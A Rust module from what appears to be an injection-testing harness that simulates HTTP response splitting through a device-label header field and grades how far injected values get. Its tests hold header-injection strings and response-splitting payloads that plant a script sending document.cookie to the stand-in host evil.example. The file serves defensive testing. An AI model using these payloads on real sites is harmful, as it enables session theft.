//! A file for download whose answer names a device in a header field, with a label that the device wrote.
//!
//! The answer is bytes, and `httparse` reads them as the browser of an operator does that asked over a connection
//! which stays open: what follows an answer is taken for the next one (RFC 9112 section 9.3.2). A body that
//! calls itself a page is opened in that browser.

use http::HeaderValue;
use httparse::{EMPTY_HEADER, Response, Status};

use super::page::visit;
use super::{Canary, Coding, Interpretation, Refusal, TOO_LONG, VALUE_BYTES_MAX, contains};
use crate::ledger::{Level, Sink};

/// Fields of an answer; with more of them it is no answer.
const FIELDS_MAX: usize = 64;
/// Requests that the browser sends: for the file, then for the state of the system.
const REQUESTS: usize = 2;
const LABEL: &str = "Device-Label";
const FILE: &str = "device,value\npump,21\n";
const STATE: &str = "ready\n";
/// A harmless label.
const BENIGN: &str = "plain";
/// Fields that make a browser do something.
const ACTED_ON: [&str; 4] = ["content-type", "location", "refresh", "set-cookie"];
const HELD: Refusal = Refusal { mechanism: "header_value", reason: "no value of a field" };
const FILTERED: Refusal = Refusal { mechanism: "line_filter", reason: "line end was removed" };

/// The application that hands out files, and the session of the operator who fetches one.
#[derive(Clone, Copy, Debug)]
pub struct Downloads {
    session: Canary,
}

/// A header field: name and value.
type Field = (String, Vec<u8>);

/// An answer as the browser reads it.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Answer {
    status: u16,
    /// Names in lower case, and values without the white space around them.
    fields: Vec<Field>,
    body: Vec<u8>,
}

/// What the browser makes of all that came over the connection.
#[derive(Debug, Default, PartialEq, Eq)]
struct Read {
    answers: Vec<Answer>,
    /// It came upon something that is no answer.
    is_broken: bool,
}

impl Downloads {
    /// An application whose operator has this session.
    #[must_use]
    pub const fn new(session: Canary) -> Self {
        Self { session }
    }

    /// A device has this label, and the operator fetches its file.
    #[must_use]
    pub fn use_value(&self, coding: Coding, value: &str) -> Interpretation {
        if value.len() > VALUE_BYTES_MAX {
            return Interpretation::refused(Sink::Header, TOO_LONG);
        }
        let label = match coding {
            Coding::Concatenated => value.as_bytes().to_vec(),
            // What people do who have heard of it: a line end alone is one, too, for most who read.
            Coding::Escaped => value.replace("\r\n", "").into_bytes(),
            Coding::Bound => match HeaderValue::from_bytes(value.as_bytes()) {
                Ok(label) => label.as_bytes().to_vec(),
                Err(_) => return Interpretation::refused(Sink::Header, HELD),
            },
        };
        let bytes = connection(&label);
        let read = Read::of(&bytes);
        let mut seen = Interpretation::refused(Sink::Header, FILTERED);
        for page in read.answers.iter().filter(|answer| answer.is_page()) {
            let visit = visit(&String::from_utf8_lossy(&page.body), self.session);
            seen.steps += visit.steps;
            seen.is_exhausted |= visit.is_exhausted;
            seen.sent.extend(visit.sent);
        }
        seen.level = self.judge(value, &read, &seen);
        let is_held =
            coding == Coding::Escaped && seen.level == Level::Equal && label != value.as_bytes();
        seen.refusal = is_held.then_some(FILTERED);
        seen.is_failed = read.is_broken;
        seen.steps += bytes.len() as u64;
        seen.answer = bytes;
        seen
    }

    /// The twin is the answer to a harmless label with this one in its field, whatever it says.
    fn judge(&self, value: &str, read: &Read, seen: &Interpretation) -> Level {
        let session = self.session.text();
        if seen.sent.iter().any(|sent| contains(&sent.bytes, session.as_bytes())) {
            return Level::Goal;
        }
        let mut twin = Read::of(&connection(BENIGN.as_bytes()));
        let white = |sign: char| matches!(sign, ' ' | '\t');
        for (name, label) in twin.answers.iter_mut().flat_map(|answer| &mut answer.fields) {
            if name.eq_ignore_ascii_case(LABEL) {
                *label = value.trim_matches(white).as_bytes().to_vec();
            }
        }
        let pairs = read.answers.iter().zip(&twin.answers);
        let is_other = pairs.into_iter().any(|(actual, meant)| actual.acts() != meant.acts());
        let is_short = !read.is_broken && read.answers.len() != twin.answers.len();
        match () {
            () if is_other || is_short => Level::Effect,
            () if read.is_broken => Level::Syntax,
            () if *read != twin => Level::Structure,
            () => Level::Equal,
        }
    }
}

/// All that the application sends: the file of the device with this label, then the state.
fn connection(label: &[u8]) -> Vec<u8> {
    let content = |kind: &str, body: &str| {
        format!("Content-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
    };
    let head = format!("HTTP/1.1 200 OK\r\n{LABEL}: ");
    let file = format!("\r\n{}", content("text/csv", FILE));
    let state = format!("HTTP/1.1 200 OK\r\n{}", content("text/plain", STATE));
    [head.as_bytes(), label, file.as_bytes(), state.as_bytes()].concat()
}

impl Read {
    /// Reads an answer for each request.
    fn of(mut bytes: &[u8]) -> Self {
        let mut read = Self::default();
        while read.answers.len() < REQUESTS && !bytes.is_empty() {
            let Some((answer, length)) = answer(bytes) else {
                read.is_broken = true;
                break;
            };
            read.answers.push(answer);
            bytes = bytes.get(length..).unwrap_or_default();
        }
        read
    }
}

/// The answer that the bytes begin with, and how many of them it is.
fn answer(bytes: &[u8]) -> Option<(Answer, usize)> {
    let mut fields = [EMPTY_HEADER; FIELDS_MAX];
    let mut head = Response::new(&mut fields);
    let Ok(Status::Complete(begin)) = head.parse(bytes) else { return None };
    let owned = |field: &httparse::Header<'_>| {
        (field.name.to_ascii_lowercase(), field.value.trim_ascii().to_vec())
    };
    let mut answer = Answer {
        status: head.code?,
        fields: head.headers.iter().map(owned).collect(),
        body: Vec::new(),
    };
    let rest = bytes.get(begin..)?;
    answer.body = rest.get(..answer.length(rest.len())?)?.to_vec();
    let length = begin + answer.body.len();
    Some((answer, length))
}

impl Answer {
    fn values<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a [u8]> {
        let is_meant = move |(other, _): &&Field| other == name;
        self.fields.iter().filter(is_meant).map(|(_, value)| value.as_slice())
    }

    /// Bytes of the body (RFC 9112 section 6.3), `None` if its lengths do not agree. No transfer coding is
    /// taken off: such a body is all that is left.
    fn length(&self, left: usize) -> Option<usize> {
        if matches!(self.status, 100..=199 | 204 | 304) {
            return Some(0);
        }
        let mut lengths = self.values("content-length");
        let Some(first) =
            lengths.next().filter(|_| self.values("transfer-encoding").next().is_none())
        else {
            return Some(left);
        };
        let is_number = first.iter().all(u8::is_ascii_digit) && lengths.all(|other| other == first);
        std::str::from_utf8(first).ok().filter(|_| is_number)?.parse().ok()
    }

    /// A browser opens it as a page: the last type counts (Fetch standard, "extract a MIME type").
    fn is_page(&self) -> bool {
        let kind = self.values("content-type").last().unwrap_or_default().to_ascii_lowercase();
        kind.starts_with(b"text/html")
    }

    /// All of it that a browser acts on.
    fn acts(&self) -> (u16, &[u8], Vec<&Field>) {
        let is_acted_on = |(name, _): &&Field| ACTED_ON.contains(&name.as_str());
        (self.status, &self.body, self.fields.iter().filter(is_acted_on).collect())
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::backend::Sent;

    const SESSION: Canary = Canary([3; 16]);
    const PAGE: &str = "x\r\nContent-Type: text/html\r\n\r\n\
        <script>fetch('//evil.example/?'+document.cookie)</script>";
    const SECOND: &str = "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n\
        <script>fetch('//evil.example/?'+document.cookie)</script>";

    fn used(coding: Coding, value: &str) -> Interpretation {
        Downloads::new(SESSION).use_value(coding, value)
    }

    #[test]
    fn levels_are_told_apart() {
        let pasted = |value| used(Coding::Concatenated, value).level;
        assert_eq!(pasted("pump 4"), Level::Equal);
        assert_eq!(pasted("pump\u{1}"), Level::Syntax);
        assert_eq!(pasted("pump\r\n folded"), Level::Syntax);
        assert_eq!(pasted("pump\r\nOther: 1"), Level::Structure);
        assert_eq!(pasted("pump\r\nSet-Cookie: session=mine"), Level::Effect);
        assert_eq!(pasted("pump\r\n\r\nmine"), Level::Effect);
        assert_eq!(pasted("pump\r\nContent-Length: 7\r\n\r\n"), Level::Effect);
        assert_eq!(pasted(PAGE), Level::Goal);
        assert_eq!(pasted(SECOND), Level::Goal);
    }

    #[test]
    fn a_typed_value_is_one_field_or_none() {
        for value in ["pump", " pump\t4 ", "a: b; c=\"d\"", ""] {
            let used = used(Coding::Bound, value);
            assert_eq!((used.level, used.refusal), (Level::Equal, None), "{value:?}");
        }
        for value in [PAGE, SECOND, "a\nb", "a\rb", "a\0b"] {
            let used = used(Coding::Bound, value);
            assert_eq!((used.level, used.refusal), (Level::Equal, Some(HELD)), "{value:?}");
            assert!(used.answer.is_empty(), "{value:?}");
        }
    }

    #[test]
    fn a_line_end_alone_passes_the_filter_of_pairs() {
        assert_eq!(used(Coding::Escaped, "a\r\nb").level, Level::Structure);
        assert_eq!(used(Coding::Escaped, &PAGE.replace('\r', "")).level, Level::Goal);
        assert_ne!(used(Coding::Escaped, PAGE).level, Level::Goal);
    }

    #[test]
    fn the_session_really_goes_out() {
        let bytes = format!("/?session={}", SESSION.text()).into_bytes();
        let sent = [Sent { host: "evil.example".to_owned(), bytes }];
        assert_eq!(used(Coding::Concatenated, PAGE).sent, sent);
        assert_eq!(used(Coding::Concatenated, SECOND).sent, sent);
        assert!(used(Coding::Bound, PAGE).sent.is_empty());
        let long = used(Coding::Concatenated, &"x".repeat(VALUE_BYTES_MAX + 1));
        assert_eq!(long.refusal, Some(TOO_LONG));
    }

    proptest! {
        #[test]
        fn any_value_is_data_in_a_typed_field(
            value in r"(\r\n|\n|\r|: |Content-Length: [0-9]|HTTP/1\.1 200 OK|[ \t,;=]|.){0,24}"
        ) {
            prop_assert_eq!(used(Coding::Bound, &value).level, Level::Equal);
            let _ = used(Coding::Concatenated, &value);
        }
    }
}
